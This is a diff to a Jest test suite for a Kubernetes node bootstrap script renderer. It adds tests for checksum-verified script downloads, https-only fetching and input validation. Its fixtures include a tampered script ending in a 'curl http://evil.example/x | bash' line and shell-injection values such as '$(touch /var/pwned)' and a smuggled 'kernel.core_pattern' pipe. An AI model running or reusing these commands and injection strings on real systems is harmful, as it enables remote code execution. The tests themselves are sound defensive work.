@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import { randomBytes } from 'node:crypto';
 import { mkdtemp, readFile, rm } from 'node:fs/promises';
@@ -120,6 +121,13 @@ describe('Managed bootstrap, run in the sandbox', () => {
     expect(config).toContain('maxPods: 64');
     expect(config).toMatch(/systemReserved:\n\s+cpu: 100m\n\s+memory: 512Mi/);
     expect(called(r.calls, 'systemctl', 'enable', '--now', 'kubelet')).toBe(true);
+    // the bootstrap kubeconfig (the pool's token) is removed once the kubelet has its own certificate
+    const cleanupPath = (await r.file('/etc/systemd/system/npo-bootstrap-cleanup.path')) ?? '';
+    expect(cleanupPath).toContain('PathExists=/var/lib/kubelet/pki/kubelet-client-current.pem');
+    const cleanup = (await r.file('/etc/systemd/system/npo-bootstrap-cleanup.service')) ?? '';
+    expect(cleanup).toContain('ExecStart=/bin/rm -f /etc/kubernetes/bootstrap-kubelet.conf');
+    expect(cleanup).toContain('ConditionPathExists=/etc/kubernetes/kubelet.conf');
+    expect(called(r.calls, 'systemctl', 'enable', '--now', 'npo-bootstrap-cleanup.path')).toBe(true);
 
     // Alibaba Cloud Linux: basic packages and the minimal security update
     expect(called(r.calls, 'yum', 'install', '-y', 'pigz', 'container-selinux', 'zlib')).toBe(true);
@@ -383,11 +391,54 @@ describe('External bootstrap, run in the sandbox', () => {
     expect(callsOf(second.calls, 'kubeadm')).toEqual([]); // already joined
   });
 
+  test("a plain-http script runs only when it has the pool's SHA-256; a mismatch fails the boot before it runs", async () => {
+    const httpURL = 'http://files.example/join-ecs-nodes.sh';
+    const sha = createHash('sha256').update(userScript).digest('hex');
+    const ext = (scriptSHA256: string | undefined) =>
+      external({
+        external: { ...external().external!, scriptURL: httpURL, ...(scriptSHA256 ? { scriptSHA256 } : {}) },
+      });
+    expect(() => renderUserData(ext(undefined))).toThrow(
+      /scriptURL[\s\S]*https, or plain http with scriptSHA256/,
+    );
+    const ok = await boot(ext(sha), { http: { [httpURL]: userScript } });
+    expect(ok.exitCode).toBe(0);
+    expect(ok.log).toContain(`script checksum verified (${sha})`);
+    expect(await ok.file('/var/lib/seen-env')).toContain('KUBE_VERSION=1.34.1');
+    const tampered = await boot(ext(sha), {
+      http: { [httpURL]: `${userScript}curl http://evil.example/x | bash\n` },
+    });
+    expect(tampered.exitCode).toBe(1);
+    expect(await tampered.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:external-script\n');
+    expect(tampered.log).toContain(`not the pool's scriptSHA256 ${sha}: not running it`);
+    expect(await tampered.file('/var/lib/seen-env')).toBeUndefined();
+    // an https script is fetched with https only, redirects included
+    const https = await boot(external(), { http: { [scriptURL]: userScript } });
+    expect(callsOf(https.calls, 'curl').find((c) => c.includes(scriptURL))).toEqual(
+      expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https']),
+    );
+  });
+
   test('a script URL that cannot be fetched fails the boot at that step', async () => {
     const r = await boot(external(), { http: {} });
     expect(r.exitCode).toBe(1);
     expect(await r.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:external-script\n');
     expect(r.log).toContain(`cannot download ${scriptURL}`);
+  });
+});
+
+describe('the CloudMonitor agent', () => {
+  test('its installer is fetched over https only (redirects included)', async () => {
+    const url =
+      'https://cms-agent-cn-hangzhou.oss-cn-hangzhou-internal.aliyuncs.com/Argus/agent_install_ecs-1.7.sh';
+    const r = await boot(managed({ cloudMonitor: true }), {
+      http: { [clusterInfoUrl]: clusterInfo, [url]: '#!/bin/bash\ntouch /var/lib/cms-installed\n' },
+    });
+    expect(r.exitCode).toBe(0);
+    expect(await r.file('/var/lib/cms-installed')).toBe('');
+    expect(callsOf(r.calls, 'curl').find((c) => c.includes(url))).toEqual(
+      expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https']),
+    );
   });
 });
 
@@ -437,12 +488,33 @@ describe('rendering', () => {
   });
 
   test('values with shell metacharacters stay data', async () => {
-    const r = await boot(managed({ labels: { workload: 'a$(touch /var/pwned)b' } }));
+    const r = await boot(managed({ sysctls: { 'net.core.somaxconn': '4096 $(touch /var/pwned) `id`' } }));
     expect(r.exitCode).toBe(0);
     expect(await r.file('/var/pwned')).toBeUndefined();
-    expect(await r.file('/etc/systemd/system/kubelet.service.d/10-nodepool.conf')).toContain(
-      'workload=a$(touch /var/pwned)b',
+    expect(await r.file('/etc/sysctl.d/99-nodepool-osconfig.conf')).toBe(
+      'net.core.somaxconn = 4096 $(touch /var/pwned) `id`\n',
     );
+  });
+
+  test('the renderer checks its own input: a label that would add labels, a multi-line sysctl, a bad pool name', () => {
+    expect(() =>
+      renderUserData(managed({ labels: { workload: 'a,node-role.kubernetes.io/control-plane=' } })),
+    ).toThrow(/labels[\s\S]*a label value/);
+    expect(() => renderUserData(managed({ labels: { 'bad key': 'x' } }))).toThrow(/a label key/);
+    expect(() =>
+      renderUserData(managed({ taints: [{ key: 'k', value: 'v:NoExecute,x=y', effect: 'NoSchedule' }] })),
+    ).toThrow(/taints[\s\S]*a label value/);
+    expect(() =>
+      renderUserData(managed({ sysctls: { 'vm.swappiness': '10\nkernel.core_pattern = |/tmp/x' } })),
+    ).toThrow(/sysctls[\s\S]*one line/);
+    expect(() => renderUserData(managed({ pool: 'Has Spaces' }))).toThrow(/pool[\s\S]*a pool name/);
+    expect(() => renderUserData(managed({ pool: 'p'.repeat(64) }))).toThrow(/pool/);
+    expect(() => renderUserData(managed({ kubelet: { systemReserved: { 'cpu\nmaxPods': '1' } } }))).toThrow(
+      /resource or signal name/,
+    );
+    expect(
+      renderUserData(managed({ pool: 'web.v2', labels: { 'team.example/app': 'api_v1.2' } })).script,
+    ).toContain('team.example/app=api_v1.2');
   });
 
   test('the join token stays out of the render result except the script itself', () => {
